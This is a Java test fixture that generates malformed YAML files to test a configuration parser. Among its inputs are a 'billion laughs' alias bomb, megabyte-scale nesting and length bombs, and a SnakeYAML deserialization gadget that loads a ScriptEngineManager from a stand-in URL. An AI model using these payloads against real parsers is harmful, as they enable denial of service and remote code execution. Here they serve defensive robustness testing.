/* SPDX-License-Identifier: Apache-2.0 */
package dev.tandem.config;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.function.IntFunction;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Files that no user wrote, and files that a user's slip or a foe could write. */
final class MalformedFiles {
  private static final int MEGABYTE = 1 << 20;
  private static final int LINES = 100_000;

  private final Map<String, byte[]> contents = new LinkedHashMap<>();

  private MalformedFiles() {
    text("alias bomb", "a: &a [lol]\n" + lines(9, i -> aliases("abcdefghijk".charAt(i))));
    text("alias of itself", "name: &a [*a]\n");
    text("nested lists", "[".repeat(MEGABYTE));
    text("nested maps", "{a: ".repeat(MEGABYTE / 4));
    text("nested dashes", "- ".repeat(MEGABYTE / 2));
    text("nested keys", "? ".repeat(MEGABYTE / 2));
    text("nested blocks", lines(1400, i -> " ".repeat(i) + "a:\n"));
    text(
        "script tag", "name: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://x\"]]\n");
    text("tag directive", "%TAG !e! tag:example.com,2000:\n---\nname: !e!x y\n");
    bytes("binary", random(MEGABYTE));
    bytes("zeros", new byte[MEGABYTE]);
    bytes("UTF-16", "\uFEFFname: loans\n".getBytes(StandardCharsets.UTF_16LE));
    text("control character", "name: loans\nrevision: \u0007\n");
    text("empty", "");
    text("comments only", "# nothing\n\n# at all");
    text("plain text", "loans");
    text("list", "- loans\n");
    text("two documents", "name: loans\n---\nname: loans\n");
    text("tab", "source:\n\tmysql: {}\n");
    text("open quote", "name: \"loans\n" + "a\n".repeat(1000));
    text("open bracket", "source: {mysql: [\n");
    text("old version", "%YAML 2.0\n---\nname: loans\n");
    text("many lines", lines(LINES, i -> "key" + i + ": {value: " + i + "}\n"));
    text("one key on many lines", "name: loans\n".repeat(LINES));
    text("many references", "name: \"" + "${A".repeat(MEGABYTE) + "\"\n");
    text("long line", "#".repeat(3 * MEGABYTE));
    text("long word", "name: " + "a".repeat(3 * MEGABYTE));
    text("long key", "? " + "k".repeat(3 * MEGABYTE) + "\n: v\n");
    text("nested arrays", type("array<".repeat(20_000) + "text" + ">".repeat(20_000)));
    text("blank expiry", dynamo("ttl: '{" + " ".repeat(MEGABYTE) + "'"));
    text("many values", "[" + "a,".repeat(MEGABYTE) + "]");
    text("too large", "#\n".repeat(3 * MEGABYTE));
  }

  /** Writes all of them, and returns where. */
  static Map<String, Path> write(Path directory) throws IOException {
    Map<String, Path> files = new LinkedHashMap<>();
    for (Map.Entry<String, byte[]> content : new MalformedFiles().contents.entrySet()) {
      Path file = directory.resolve(content.getKey() + ".yaml");
      Files.write(file, content.getValue());
      files.put(content.getKey(), file);
    }
    return files;
  }

  private static String dynamo(String keys) {
    return "domains: {a: {entities: {b: {to: {dynamo: {" + keys + "}}}}}}\n";
  }

  private static String type(String type) {
    return "domains: {a: {entities: {b: {fields: {c: {type: '" + type + "'}}}}}}\n";
  }

  private void text(String name, String content) {
    bytes(name, content.getBytes(StandardCharsets.UTF_8));
  }

  private void bytes(String name, byte[] content) {
    contents.put(name, content);
  }

  private static String lines(int count, IntFunction<String> line) {
    return IntStream.range(0, count).mapToObj(line).collect(Collectors.joining());
  }

  private static String aliases(char name) {
    char next = (char) (name + 1);
    return next + ": &" + next + " [" + ("*" + name + ",").repeat(9) + "]\n";
  }

  private static byte[] random(int length) {
    byte[] bytes = new byte[length];
    new Random(7).nextBytes(bytes);
    return bytes;
  }
}
